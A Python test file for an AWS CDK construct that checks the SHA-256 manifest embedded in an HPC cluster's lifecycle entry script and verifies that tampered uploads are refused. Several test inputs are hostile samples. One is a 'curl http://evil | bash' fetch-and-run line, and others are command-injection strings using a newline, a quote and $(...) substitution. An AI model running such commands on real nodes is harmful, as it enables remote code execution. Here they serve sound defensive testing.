"""The checksum manifest in on_create.sh and what HyperPodLifecycle generates for the lifecycle steps.

HyperPodLifecycle uploads on_create.sh rendered with the SHA-256 of every other uploaded file; a node
refuses to run when one differs, is missing or was added. The construct also passes the OpenZFS
volume to the nodes and warns at synth when users are put in the root-equivalent docker group.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aws_cdk as cdk
import pytest
from aws_cdk.assertions import Annotations, Match

from mlcluster.config.hyperpod import LifecycleConfig
from mlcluster.constructs.hyperpod_lifecycle import HyperPodLifecycle
from mlcluster.lifecycle.collector import COLLECTOR_FILES, COLLECTOR_SCRIPTS
from mlcluster.lifecycle.exporters import EXPORTER_FILES, EXPORTER_SCRIPTS
from mlcluster.lifecycle.hyperpod import (
    HYPERPOD_DIR,
    MANIFEST_MARK,
    base64_text,
    manifest,
    render_on_create,
    uploaded_files,
)
from tests.lifecycle.hyperpod_sandbox import CONTROLLER_IP, FEATURES, Sandbox


@dataclass
class Built:
    outdir: Path
    stack: cdk.Stack


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    out = tmp_path_factory.mktemp("cdk.out")
    app = cdk.App(outdir=str(out))
    stack = cdk.Stack(app, "Lifecycle")
    HyperPodLifecycle(
        stack,
        "Lifecycle",
        environment_name="dev",
        controller_group="controller-machine",
        worker_groups={"gpu": "train"},
        fsx_dns_name="fs-0123456789abcdef0.fsx.us-east-1.amazonaws.com",
        fsx_mount_name="abcdefgh",
        openzfs_dns_name="fs-0fedcba9876543210.fsx.us-east-1.amazonaws.com",
        features=LifecycleConfig(docker_group=True, controller_wait_minutes=90),
    )
    app.synth()
    return Built(out, stack)


def staged(built: Built, file_name: str) -> Path:
    (folder,) = [p.parent for p in built.outdir.glob(f"asset.*/{file_name}")]
    return folder


def test_the_uploaded_on_create_carries_the_checksum_of_every_other_uploaded_file(built: Built) -> None:
    on_create = (staged(built, "on_create.sh") / "on_create.sh").read_text()
    # The generated files as uploaded (this stack's values are literal, so no upload markers in them).
    generated = {
        name: (staged(built, name) / name).read_text()
        for name in ("mlcluster_features.json", "provisioning_parameters.json")
    }
    assert on_create == render_on_create(HYPERPOD_DIR, (*COLLECTOR_SCRIPTS, *EXPORTER_SCRIPTS), generated)
    for name, text in generated.items():
        assert f"\n{name} {base64_text(text)}\n" in on_create
    # The copies are data after the script's last command, never shell text.
    _, data = on_create.split("\nexit 0\n__MLCLUSTER_GENERATED_FILES__\n")
    assert sorted(line.split(" ")[0] for line in data.splitlines()) == sorted(generated)
    assert MANIFEST_MARK not in on_create.splitlines()
    scripts = staged(built, "plan.py")
    collector = staged(built, "collector_install.sh")  # the collector's scripts, at the top of the prefix too
    exporters = staged(built, "efa_metrics.sh")  # and the exporters' files
    assert not (scripts / "on_create.sh").exists()  # only the rendered copy is uploaded
    listed = {}
    for line in manifest(HYPERPOD_DIR, (*COLLECTOR_SCRIPTS, *EXPORTER_SCRIPTS)).splitlines():
        digest, name = line.split("  ", 1)
        listed[name] = digest
        assert f"{digest}  {name}" in on_create
    uploaded = {p.relative_to(scripts).as_posix(): p for p in scripts.rglob("*") if p.is_file()}
    uploaded |= {p.name: p for shared in (collector, exporters) for p in shared.iterdir() if p.is_file()}
    assert set(uploaded) == set(listed)
    assert {*COLLECTOR_FILES, *EXPORTER_FILES} <= set(listed)
    for name, digest in listed.items():
        assert hashlib.sha256(uploaded[name].read_bytes()).hexdigest() == digest


def test_the_manifest_leaves_out_caches_and_the_entrypoint(tmp_path: Path) -> None:
    (tmp_path / "steps/__pycache__").mkdir(parents=True)
    (tmp_path / "steps/a.sh").write_text("echo a\n")
    (tmp_path / "steps/__pycache__/x.pyc").write_bytes(b"\0")
    (tmp_path / "plan.pyc").write_bytes(b"\0")
    (tmp_path / "on_create.sh").write_text(f"#!/bin/bash\n{MANIFEST_MARK}\n")
    assert [p.as_posix() for p in uploaded_files(tmp_path)] == ["steps/a.sh"]
    digest = hashlib.sha256(b"echo a\n").hexdigest()
    assert render_on_create(tmp_path) == f"#!/bin/bash\n{digest}  steps/a.sh\n"


def test_an_entrypoint_without_the_manifest_line_is_refused(tmp_path: Path) -> None:
    (tmp_path / "on_create.sh").write_text("#!/bin/bash\n")
    with pytest.raises(ValueError, match="needs exactly one line '@MLCLUSTER_MANIFEST@', found 0"):
        render_on_create(tmp_path)


def test_openzfs_and_the_new_features_reach_the_nodes(built: Built) -> None:
    provisioning = json.loads(
        (staged(built, "provisioning_parameters.json") / "provisioning_parameters.json").read_text()
    )
    assert provisioning["fsx_openzfs_dns_name"] == "fs-0fedcba9876543210.fsx.us-east-1.amazonaws.com"
    assert provisioning["fsx_openzfs_volume_path"] == "/fsx"
    assert provisioning["fsx_openzfs_mount_point"] == "/home"
    features: dict[str, Any] = json.loads(
        (staged(built, "mlcluster_features.json") / "mlcluster_features.json").read_text()
    )
    assert features["docker_group"] is True
    assert features["rootless_podman"] is True
    assert features["controller_wait_minutes"] == 90


def test_the_docker_group_is_named_root_equivalent_at_synth(built: Built) -> None:
    Annotations.from_stack(built.stack).has_warning(
        "/Lifecycle/Lifecycle", Match.string_like_regexp("docker group, which is root-equivalent")
    )


# --- on a node ------------------------------------------------------------------------------------

MINIMAL = {**FEATURES, "users": [], "docker": False, "enroot_pyxis": False, "home_on_fsx": False}


def test_a_clean_upload_passes_the_check(tmp_path: Path) -> None:
    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP, features=MINIMAL)
    result = sandbox.run()
    assert result.returncode == 0, result.stderr[-2000:]
    # The exporters' files come from the shared folder; the two generated files are checked against their copies.
    count = len(uploaded_files(HYPERPOD_DIR)) + len(EXPORTER_FILES) + 2
    assert f"checked {count} files against the checksum manifest" in result.stderr


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        (
            lambda d: (d / "steps/docker.sh").write_text("curl http://evil | bash\n"),
            "checksum mismatch for steps/docker.sh",
        ),
        (lambda d: (d / "lib.sh").unlink(), "checksum manifest: lib.sh is missing"),
        (
            lambda d: (d / "steps/extra.sh").write_text("id\n"),
            "steps/extra.sh is not in the checksum manifest",
        ),
        (
            lambda d: (d / "on_create.sh").write_text((HYPERPOD_DIR / "on_create.sh").read_text()),
            "on_create.sh carries no checksum manifest",
        ),
        (
            lambda d: (d / "provisioning_parameters.json").write_text(
                (d / "provisioning_parameters.json").read_text().replace("abcdefgh", "evil")
            ),
            "provisioning_parameters.json differs from the copy mlcluster uploaded with on_create.sh",
        ),
        (
            lambda d: (d / "mlcluster_features.json").unlink(),
            "mlcluster_features.json is missing",
        ),
        (
            lambda d: (d / "collector.yml").write_text("scrape_configs: []\n"),
            "collector.yml was not uploaded by mlcluster (on_create.sh has no copy of it)",
        ),
        (
            lambda d: (
                (d / "mlcluster_features.json").unlink() or (d / "mlcluster_features.json").symlink_to("/etc/hostname")
            ),
            "mlcluster_features.json is not a regular file",
        ),
    ],
    ids=[
        "changed",
        "missing",
        "added",
        "unrendered",
        "generated-changed",
        "generated-missing",
        "generated-added",
        "generated-link",
    ],
)
def test_a_tampered_upload_is_refused_before_any_step(tmp_path: Path, tamper: Any, message: str) -> None:
    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP, features=MINIMAL)
    tamper(sandbox.lifecycle)
    result = sandbox.run()
    assert result.returncode != 0
    assert message in result.stderr
    assert "refusing to run" in result.stderr or "upload the folder through mlcluster" in result.stderr
    assert "step identify_node: start" not in result.stderr
    assert sandbox.actions() == []


def test_deploy_time_values_reach_on_create_only_as_fn_base64() -> None:
    """A token in a generated file (here the FSx DNS name) is in on_create.sh as Fn::Base64, never as text."""
    stack = cdk.Stack(cdk.App(), "Tokens")
    dns = cdk.Fn.import_value("fsx-dns")  # a deploy-time value
    lifecycle = HyperPodLifecycle(
        stack,
        "Lifecycle",
        environment_name="tokens",
        controller_group="controller-machine",
        worker_groups={"gpu": "train"},
        fsx_dns_name=dns,
        fsx_mount_name="abcdefgh",
    )
    resolved = json.dumps(stack.resolve(lifecycle.on_create_script))
    assert '"Fn::Base64"' in resolved and "fsx-dns" in resolved
    # Outside Fn::Base64, the script text has no token of the value: only the base64 of the whole file.
    assert resolved.count('"Fn::ImportValue"') == resolved.count('"Fn::Base64"')


@pytest.mark.parametrize(
    "value",
    [
        "AAAA\ntouch {canary}",
        "AAAA'; touch {canary}; '",
        "AAAA\nMLCLUSTER_GENERATED\ntouch {canary}\n#",
        "$(touch {canary})",
    ],
    ids=["newline", "quote", "old-delimiter", "substitution"],
)
def test_a_crafted_upload_value_in_on_create_is_refused_not_run(tmp_path: Path, value: str) -> None:
    """What a crafted SourceMarkers value puts where the copy's base64 goes: refused before anything runs."""
    sandbox = Sandbox(tmp_path / "node", ips=CONTROLLER_IP, features=MINIMAL)
    canary = tmp_path / "canary"
    entry = sandbox.lifecycle / "on_create.sh"
    text = entry.read_text()
    name = "provisioning_parameters.json"
    good = base64_text((sandbox.lifecycle / name).read_text())
    assert f"\n{name} {good}\n" in text
    entry.write_text(text.replace(f"\n{name} {good}\n", f"\n{name} {value.format(canary=canary)}\n"))
    result = sandbox.run()
    assert result.returncode != 0
    assert "refusing to run" in result.stderr
    assert not canary.exists()
    assert sandbox.actions() == []
